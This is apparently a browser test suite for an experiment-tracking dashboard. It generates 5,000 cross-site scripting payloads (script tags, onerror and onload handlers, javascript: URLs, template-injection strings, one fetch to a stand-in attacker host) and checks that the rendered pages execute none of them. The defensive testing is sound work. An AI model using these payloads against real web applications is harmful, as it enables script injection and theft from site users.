"""Names, tags, values and texts that are scripts stay text: 5,000 of them in a real Chromium, with CSP reports on."""

import itertools
import re
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np

import moonlet.tracker
from moonlet.tracker import Image, Rollout, Run, Table, Text

PAGE = Path(moonlet.tracker.__file__).parent / "page"
RUN = "window.__ran=1"
CALLS = [RUN, "top['__ran']=1", "self.__ran=1;alert(1)", "document.title='owned'", "fetch('//evil.example/')"]
SHAPES = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "<img src=x onerror={}>",
    "<IMG SRC=x OnErRoR='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></p><img src onerror={}></mtext></math>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href=javascript:{}>",
    "<object data='javascript:{}'></object>",
    "<a href='javascript:{}'>x</a>",
    "javascript:{}//",
    '"onmouseover={} x="',
    "' autofocus onfocus={} '",
    "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}",
    "';{}//",
    '\\";{}//',
    "--><script>{}</script>",
    '<!--<img src="--><img src=x onerror={}>">',
    "<x onclick={} tabindex=0 autofocus onfocus={}>",
    "\u202e<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<form><button formaction=javascript:{}>x",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "__proto__[{}]",
    "data:text/html,<script>{}</script>",
    "\ud83d<b onpointerenter={}>\udc00",
    "]]><script>{}</script>",
]
WRAPS = [
    "{}",
    "{} ",
    " {}",
    '"{}"',
    "'{}'",
    "[{}]",
    "%3C{}%3E",
    "<b>{}</b>",
    "\n{}\n",
    "a/{}",
    "{}/b",
    "{}" * 2,
    "&lt;{}",
]
WRAPS += [
    "<<{}",
    "\t{}",
    "{}\x7f",
    "${}$",
    "\\u003c{}",
    "x={}",
    "<p {}",
    "/*{}*/",
    "<!--{}",
    "<![CDATA[{}",
    "#{}",
    "{}?a=b",
]
ATTACKS = [
    wrap.replace("{}", shape.replace("{{", "{").replace("}}", "}").replace("{}", call))
    for wrap, shape, call in itertools.product(WRAPS, SHAPES, CALLS)
]


LISTEN = """addEventListener('securitypolicyviolation', (event) => { (window.__csp ??= []).push(event.blockedURI); })"""
CLEAN = """!window.__ran && !window.__csp && document.title === 'moonlet board' && document.scripts.length === 1
  && !document.querySelector('iframe, object, embed, base, form, svg, math, b b, style, template')"""
MORE = """(() => {
  const more = [...document.querySelectorAll('.sections section > button:not(.head)')].at(-1);
  more?.click();
  return Boolean(more);
})()"""
NEXT = """for (const one of document.querySelectorAll('.partbody button')) {
  if (/^Show/.test(one.textContent) && !one.hidden) one.click();
}"""


def part(share: int) -> list[str]:
    """A part of the attacks; the parts together hold all."""
    return ATTACKS[share::10]


def test_sources_take_no_html_and_fetch_nothing_from_elsewhere():
    for path in sorted(PAGE.iterdir()):
        source = path.read_text()
        assert not re.search(
            r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|srcdoc", source
        ), path
        assert not re.search(r"(?<!xmlns=\")https?://(?!www\.w3\.org/2000/svg)", source), path
        assert 'setTimeout("' not in source and "@import" not in source and "url(http" not in source, path
    assert not re.search(r"<script(?! src=)|<style|\son\w+=|style=", (PAGE / "index.html").read_text())


def test_5000_scripts_stay_text(serve, opened, tmp_path):
    assert len(ATTACKS) == len(set(ATTACKS)) == 5000
    names = part(0)
    for i in range(0, 500, 10):
        with Run(
            tmp_path / f"r{i:03d}",
            dict(zip(part(1)[i : i + 10], part(2)[i : i + 10], strict=True)),
            name=names[i],
            tags=part(3)[i : i + 10],
            notes=names[i + 1],
        ) as run:
            run.add_points("loss", [0, 1], [1.0, 2.0], [0.0, 1.0])
            if i == 490:
                for k, attack in enumerate(part(4)):
                    run.add_points(attack, [0, 1], [1.0, 2.0], [float(k), 1.0])
                for k, attack in enumerate(part(5)):
                    run.event("text", attack if k % 50 == 0 else "text", k, {"text": attack})
                run.event("table", "table", 0, {"columns": part(6)[:10], "rows": [[one] for one in part(6)[10:]]})
                for attack in part(7):
                    run.event("console", data={"stream": "stdout", "text": attack + "\n"})
                for k, attack in enumerate(part(8)[:250]):
                    run.alert(attack, part(8)[250 + k], attack)
                messages = [
                    {"role": one, "content": one, "reasoning_content": one, "name": one} for one in part(9)[:400]
                ]
                for k, attack in enumerate(part(9)[400:]):
                    messages[k]["tool_calls"] = [{"function": {"name": attack, "arguments": attack}}]
                    messages[k] |= {"tokens": [attack], "logprobs": [-1.0]} if k % 2 else {}
                run.log(
                    {"rollouts": Rollout(messages, rewards={one: 0.5 for one in part(9)[:40]}, checkpoint=names[2])}, 0
                )
                run.log(
                    {
                        "picture": Image(np.zeros((2, 2)), caption=names[3]),
                        "words": Text(names[4]),
                        "cells": Table([names[5]], [[{"a": names[6]}]]),
                    },
                    0,
                )
    address = serve(tmp_path)
    tab = opened(f"{address}#sort=-points&wide=false", height=1200)
    page = tab.page
    page.evaluate(LISTEN)

    def shows(expression: str) -> None:
        tab.until(expression)
        assert tab.run(CLEAN), tab.run("[window.__ran, window.__csp, document.title, document.scripts.length]")

    heavy = tab.until("records.get(runsTable.item(0)?.id)?.points > 100 && runsTable.item(0).id")
    columns = ["name", "tags", "notes", *(f"config.{one}" for one in part(1)[:60])]
    page.evaluate("(columns) => setState({ columns, wide: true })", columns)
    shows("document.querySelectorAll('.row:not([hidden])').length > 20")
    for top in range(0, 1400, 400):
        tab.run(f"runsTable.scroller.scrollTop = {top}")
        shows("runsTable.item(49)")
    page.evaluate("(id) => setState({ wide: false, picked: [id], columns: null })", heavy)
    shows("chartsTab.cards.size >= 40")
    tab.run("for (const [section] of chartsTab.more) chartsTab.more.set(section, 1e4)")
    for _ in range(60):
        if not tab.run(MORE):
            break
        tab.until("true")
    shows("chartsTab.cards.size > 400")
    for title in (
        "tab: 'compare', differing: false, picked: null",
        "tab: 'sweep'",
        f"tab: 'rollouts', picked: ['{heavy}']",
    ):
        tab.run(f"setState({{ {title} }})")
        shows("main.dataset.view === state.tab && main.innerText.length > 100")
    shows("document.querySelectorAll('.message').length === 400")
    for name, done in {
        "overview": "document.querySelectorAll('.pairs tr').length > 10",
        "text": "document.querySelectorAll('article.text').length >= 60",
        "table": "document.querySelectorAll('.data td').length > 200",
        "console": "document.querySelector('.console pre')?.textContent.includes('onerror')",
        "alerts": "document.querySelectorAll('.alerts li').length === 250",
        "image": "document.querySelector('.image figcaption')",
    }.items():
        tab.run(f"setState({{ tab: 'run', run: '{heavy}', part: '{name}' }})")
        shows(done)
        for _ in range(12 if name in ("text", "table") else 0):
            tab.run(NEXT)
            tab.until("true")
    shows("true")
    path = tmp_path / "bundle.html"
    with page.expect_download() as saved:
        page.evaluate("(id) => { makeBundle([id]); }", heavy)
    saved.value.save_as(path)
    away = opened(path.as_uri())
    away.until("[...chartsTab.cards.values()].some((card) => card.chart?.data)")
    assert away.run("!window.__ran && document.title === 'moonlet board'")
    assert {urlsplit(url).hostname for url in tab.asked + away.asked} <= {"127.0.0.1", "", None}
